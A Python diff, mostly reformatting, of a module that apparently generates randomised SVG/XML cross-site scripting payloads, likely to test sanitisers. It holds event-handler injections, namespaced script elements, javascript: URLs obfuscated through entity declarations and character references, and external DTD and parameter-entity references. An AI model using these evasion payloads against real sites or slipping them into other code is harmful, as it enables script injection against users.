@@ -1,10 +1,20 @@
 """Payloads: what a document type declares."""
+
 from .document import FULL, SVG, XHTML, XLINK
 
+
 def default_event(d):
-    event, name, body = d.random.choice([
-        ("onload", "svg", ""), ("onload", "svg", ""), ("onclick", "rect", f"<rect {FULL}/>"), ("onbegin", "set", '<set attributeName="x" to="1"/>'),
-        ("onmousemove", "g", f"<g><rect {FULL}/></g>"), ("onerror", "h:img", '<h:img src="x:"/>'), ("onerror", "image", '<image href="data:,"/>')])
+    event, name, body = d.random.choice(
+        [
+            ("onload", "svg", ""),
+            ("onload", "svg", ""),
+            ("onclick", "rect", f"<rect {FULL}/>"),
+            ("onbegin", "set", '<set attributeName="x" to="1"/>'),
+            ("onmousemove", "g", f"<g><rect {FULL}/></g>"),
+            ("onerror", "h:img", '<h:img src="x:"/>'),
+            ("onerror", "image", '<image href="data:,"/>'),
+        ]
+    )
     d.prefix = ""
     if name == "svg" and d.random.random() < 0.3:
         d.prefix = "q:"
@@ -58,16 +68,34 @@ def default_namespace(d):
 def entity_namespace(d):
     """Namespaces by entities, as Illustrator writes them."""
     d.subset.append(f'<!ENTITY ns_svg "{SVG}">')
-    d.subset.append(f'<!ENTITY ns_h "{XHTML}">' if d.random.random() < 0.5 else '<!ENTITY ns_w3 "http://www.w3.org">\n<!ENTITY ns_h "http://www.w3.org/1999/xhtml">')
+    d.subset.append(
+        f'<!ENTITY ns_h "{XHTML}">'
+        if d.random.random() < 0.5
+        else '<!ENTITY ns_w3 "http://www.w3.org">\n<!ENTITY ns_h "http://www.w3.org/1999/xhtml">'
+    )
     d.namespaces = {"xlink": XLINK, "h": d.random.choice(["&ns_h;", XHTML, "http://www.w3.org/1999/&#120;html"])}
-    d.add(d.random.choice([f'<q:script xmlns:q="&ns_svg;">{d.script("<&")}</q:script>', f'<q:script xmlns:q="&ns_h;">{d.script("<&")}</q:script>',
-                           f'<div xmlns="&ns_h;"><script>{d.script("<&")}</script></div>', f'<h:img src="x:" {d.attribute("onerror", d.script())}/>']))
+    d.add(
+        d.random.choice(
+            [
+                f'<q:script xmlns:q="&ns_svg;">{d.script("<&")}</q:script>',
+                f'<q:script xmlns:q="&ns_h;">{d.script("<&")}</q:script>',
+                f'<div xmlns="&ns_h;"><script>{d.script("<&")}</script></div>',
+                f'<h:img src="x:" {d.attribute("onerror", d.script())}/>',
+            ]
+        )
+    )
 
 
 def entity_markup(d):
     script = d.script("'<&%\"")
-    markup = d.random.choice([f"<script xmlns='{SVG}'>{script}</script>", f"<h:script>{script}</h:script>", f"<svg xmlns='{SVG}' onload='{script}'/>",
-                              f"<h:img src='x:' onerror='{script}'/>"])
+    markup = d.random.choice(
+        [
+            f"<script xmlns='{SVG}'>{script}</script>",
+            f"<h:script>{script}</h:script>",
+            f"<svg xmlns='{SVG}' onload='{script}'/>",
+            f"<h:img src='x:' onerror='{script}'/>",
+        ]
+    )
     markup = markup.replace("<", d.random.choice(["<", "<", "&#60;", "&#x3c;", "&#x0000003C;"]))
     name = d.random.choice(["a", "ns_svg", "nbsp", "é", "lt2", "copy", "A"])
     d.subset.append(f'<!ENTITY {name} "{markup}">')
@@ -83,14 +111,29 @@ def entity_markup(d):
 def entity_value(d):
     words = ["&a;script:", "java&a;", "&a;&b;", "&c;"]
     word = d.random.choice(words)
-    declared = {"&a;script:": ['<!ENTITY a "java">'], "java&a;": ['<!ENTITY a "script:">'], "&a;&b;": ['<!ENTITY a "java">', "<!ENTITY b 'script:'>"],
-                "&c;": d.random.choice([['<!ENTITY d "&#x6a;avascript">', '<!ENTITY c "&d;&#58;">'], ['<!ENTITY c "javascript&#58;">']])}[word]
+    declared = {
+        "&a;script:": ['<!ENTITY a "java">'],
+        "java&a;": ['<!ENTITY a "script:">'],
+        "&a;&b;": ['<!ENTITY a "java">', "<!ENTITY b 'script:'>"],
+        "&c;": d.random.choice(
+            [['<!ENTITY d "&#x6a;avascript">', '<!ENTITY c "&d;&#58;">'], ['<!ENTITY c "javascript&#58;">']]
+        ),
+    }[word]
     d.subset += declared
     if d.random.random() < 0.3:
-        d.subset.append(declared[-1].split('"')[0].split("'")[0] + '"https://example.org/">')  # The first declaration holds.
+        d.subset.append(
+            declared[-1].split('"')[0].split("'")[0] + '"https://example.org/">'
+        )  # The first declaration holds.
     value = word + d.plain_script() + ";void 0"
-    d.add(d.random.choice([f'<{d.tag("a")} href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>', d.foreign(f'<h:iframe src="{value}"/>'),
-                           f'<{d.tag("a")} xlink:href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>']))
+    d.add(
+        d.random.choice(
+            [
+                f'<{d.tag("a")} href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>',
+                d.foreign(f'<h:iframe src="{value}"/>'),
+                f'<{d.tag("a")} xlink:href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>',
+            ]
+        )
+    )
 
 
 def entity_parameter(d):
@@ -110,10 +153,18 @@ def entity_parameter(d):
 
 def entity_named(d):
     """XHTML's public identifiers bring HTML's names of characters."""
-    d.external = d.random.choice([
-        ' PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x"', ' PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
-        ' PUBLIC "-//W3C//DTD XHTML 1.1//EN" ""', ' PUBLIC "-//W3C//DTD MathML 2.0//EN" "x"', ' PUBLIC "-//W3C//DTD XHTML 1.1 plus MathML 2.0//EN" "x"'])
-    scheme = d.random.choice(["javascript&colon;", "java&Tab;script:", "java&NewLine;script&colon;", "&nbsp;javascript:"])
+    d.external = d.random.choice(
+        [
+            ' PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x"',
+            ' PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
+            ' PUBLIC "-//W3C//DTD XHTML 1.1//EN" ""',
+            ' PUBLIC "-//W3C//DTD MathML 2.0//EN" "x"',
+            ' PUBLIC "-//W3C//DTD XHTML 1.1 plus MathML 2.0//EN" "x"',
+        ]
+    )
+    scheme = d.random.choice(
+        ["javascript&colon;", "java&Tab;script:", "java&NewLine;script&colon;", "&nbsp;javascript:"]
+    )
     if "nbsp" in scheme:
         d.add(d.element("text", [], "&nbsp;&eacute;"), d.element("script", [], d.script("<&")))
     else:
@@ -121,7 +172,9 @@ def entity_named(d):
 
 
 def external_subset(d):
-    d.external = d.random.choice([f' SYSTEM "http://{d.host}/dtd/{d.name}"', f' PUBLIC "x" "http://{d.host}/dtd/{d.name}"'])
+    d.external = d.random.choice(
+        [f' SYSTEM "http://{d.host}/dtd/{d.name}"', f' PUBLIC "x" "http://{d.host}/dtd/{d.name}"']
+    )
     if d.random.random() < 0.5:
         d.external = ""
         d.subset += [f'<!ENTITY % p SYSTEM "http://{d.host}/dtd/{d.name}">', "%p;"]
